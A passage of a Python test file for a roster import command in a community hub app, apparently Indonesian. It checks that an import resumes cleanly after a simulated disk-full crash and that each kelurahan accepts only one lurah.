    monkeypatch.setattr(hub.roster.importer, "BATCH_ROWS", 3)
    monkeypatch.setattr(hub.roster.importer, "SQLITE_PAUSE_SECONDS", 0)
    real_take_seats = hub.roster.importer._ImportRun.take_seats
    calls = 0

    async def take_seats_then_crash(self, seated, *, new_members):  # type: ignore[no-untyped-def]
        nonlocal calls
        calls += 1
        if calls == 2:
            raise RuntimeError("disk full")
        return await real_take_seats(self, seated, new_members=new_members)

    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", take_seats_then_crash)
    command = ["--config", str(cli_config), "roster", "import", str(FIXTURES / "good.csv")]

    assert main(command) == 1
    err = capsys.readouterr().err
    assert "the import stopped part-way (3 rows done)" in err
    assert "import the same file again to finish it" in err

    monkeypatch.setattr(hub.roster.importer._ImportRun, "take_seats", real_take_seats)
    assert main(command) == 0
    assert capsys.readouterr().out.splitlines()[0] == (
        "created 4, updated 0, unchanged 3, rejected 0"
    )


async def test_the_lurah_sits_at_the_kelurahan_and_has_one_holder(db: str, tmp_path: Path) -> None:
    """The lurah gets the weekly participation summary (hub/insight/weekly.py)."""
    path = tmp_path / "lurah.csv"
    path.write_text(
        f"{HEADER}\n"
        "Sungai Kunjang,Loa Bakung,,,Pak Lurah,0812-3456-7100,,,lurah\n"
        "Sungai Kunjang,Loa Bakung,,,Bu Lurah,0812-3456-7101,,,lurah\n"
    )
    report = await import_roster(path)
    assert report.created == 1
    assert dict(report.rejected) == {3: "Sungai Kunjang/Loa Bakung already has its lurah on line 2"}
    assert await current_holders("Sungai Kunjang/Loa Bakung", SeatRole.LURAH) == ["Pak Lurah"]
